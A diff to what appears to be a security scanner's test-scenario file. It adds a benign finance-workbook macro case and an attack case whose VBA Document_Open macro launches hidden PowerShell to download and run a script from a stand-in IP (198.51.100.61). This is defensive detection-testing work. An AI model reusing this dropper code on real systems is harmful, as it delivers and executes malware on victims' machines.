@@ -1308,6 +1308,25 @@ def h_desktop_shortcuts(ctx: Ctx) -> Traffic:
     return uploads(("backups/laptop-desktop.zip", desktop))
 
 
+def h_macro_workbooks(ctx: Ctx) -> Traffic:
+    """A finance team's macro workbooks: one refreshing its exchange rates from a web API as it opens,
+    one whose button opens its folder in Explorer. Each is a review (macros), never a strike."""
+    rates = "\n".join([
+        'Attribute VB_Name = "ThisWorkbook"',
+        "Private Sub Workbook_Open()",
+        '    Dim r As Object: Set r = CreateObject("MSXML2.XMLHTTP")',
+        '    r.Open "GET", "https://api.example.com/v1/rates?base=EUR", False: r.Send',
+        '    Sheets("Rates").Range("A1").Value = r.responseText',
+        '    Application.Run "RefreshCharts"',
+        "End Sub",
+    ])  # fmt: skip
+    folder = 'Attribute VB_Name = "Buttons"\nSub OpenFolder()\n    Shell "explorer.exe " & ThisWorkbook.Path, vbNormalFocus\nEnd Sub\n'
+    return uploads(
+        ("finance/rates.xlsm", F.office("xlsx", "Rates", macros=[rates])),
+        ("finance/close.xlsm", F.office("xlsx", "Month close", macros=[folder])),
+    )
+
+
 def h_spanish_customer_list(ctx: Ctx) -> Traffic:
     """A Spanish shop's customer list: 400 mobile numbers written 6xx xxx xxx (a tenth of them pass the
     Luhn check a Canadian SIN carries) beside notes that say "sin" ("without"), and a delivery list whose
@@ -2062,6 +2081,24 @@ def a_shortcut_download(ctx: Ctx) -> Traffic:
     return uploads(("mail/Invoice_2291.zip", F.zip_of([("Invoice_2291.pdf.lnk", lnk)])))  # fmt: skip
 
 
+def a_macro_dropper(ctx: Ctx) -> Traffic:
+    """A macro dropper as public samples show them: a .docm whose ``Document_Open`` builds a PowerShell
+    command that downloads a script with the web client and runs it hidden, in a module among honest
+    ones (its source compressed, as Office stores it)."""
+    dropper = "\n".join([
+        'Attribute VB_Name = "ThisDocument"',
+        "Private Sub Document_Open()",
+        '    Dim c As String: c = "powershell -nop -w hidden -c " & Chr(34)',
+        "    c = c & \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.61/s.ps1')\" & Chr(34)",
+        '    CreateObject("WScript.Shell").Run c, 0',
+        "End Sub",
+    ])  # fmt: skip
+    helper = 'Attribute VB_Name = "Format"\nSub Tidy()\n    Selection.Font.Name = "Calibri"\nEnd Sub\n'
+    return uploads(
+        ("mail/remittance-0412.docm", F.office("docx", "Enable editing to view", macros=[helper, dropper]))
+    )
+
+
 def a_follina_link(ctx: Ctx) -> Traffic:
     """Follina's document (CVE-2022-30190): a .docx whose linked OLE object is an external page ending
     ``!``, which Word hands to MSHTML as it opens (the page then calls ``ms-msdt:``), and its variant
@@ -2709,6 +2746,13 @@ SCENARIOS: list[Scenario] = [
         h_desktop_shortcuts,
     ),
     Scenario(
+        "macro-workbooks",
+        H,
+        "standard",
+        "macro workbooks refreshing rates from a web API on opening, and opening their folder from a button",
+        h_macro_workbooks,
+    ),
+    Scenario(
         "team-rota-workbooks",
         H,
         "standard",
@@ -3046,6 +3090,14 @@ SCENARIOS: list[Scenario] = [
         "standard",
         "a zipped Invoice_2291.pdf.lnk starting PowerShell hidden to download and run a script",
         a_shortcut_download,
+        ("I3",),
+    ),
+    Scenario(
+        "macro-dropper-docm",
+        A,
+        "standard",
+        "a .docm whose Document_Open has PowerShell download a script and run it hidden",
+        a_macro_dropper,
         ("I3",),
     ),
     Scenario(
